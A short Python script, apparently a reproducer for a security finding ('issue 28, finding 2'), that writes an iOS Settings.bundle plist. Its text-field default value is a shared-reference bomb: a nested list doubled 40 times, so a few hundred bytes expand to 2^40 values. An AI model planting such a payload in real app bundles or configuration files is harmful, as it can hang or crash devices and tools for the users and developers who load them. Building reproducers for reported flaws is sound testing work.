#!/usr/bin/env python3
"""Writes Settings.bundle/Root.plist (issue 28, finding 2): a text field whose DefaultValue is a
shared-reference bomb, a few hundred bytes that stand for 2^40 values. Run from this folder."""
import plistlib

value = ["x"]
for _ in range(40):
    value = [value, value]
root = {
    "StringsTable": "Root",
    "PreferenceSpecifiers": [
        {"Type": "PSTextFieldSpecifier", "Title": "Name", "Key": "profile_name", "DefaultValue": value},
    ],
}
with open("Settings.bundle/Root.plist", "wb") as file:
    file.write(plistlib.dumps(root, fmt=plistlib.FMT_BINARY, sort_keys=True))
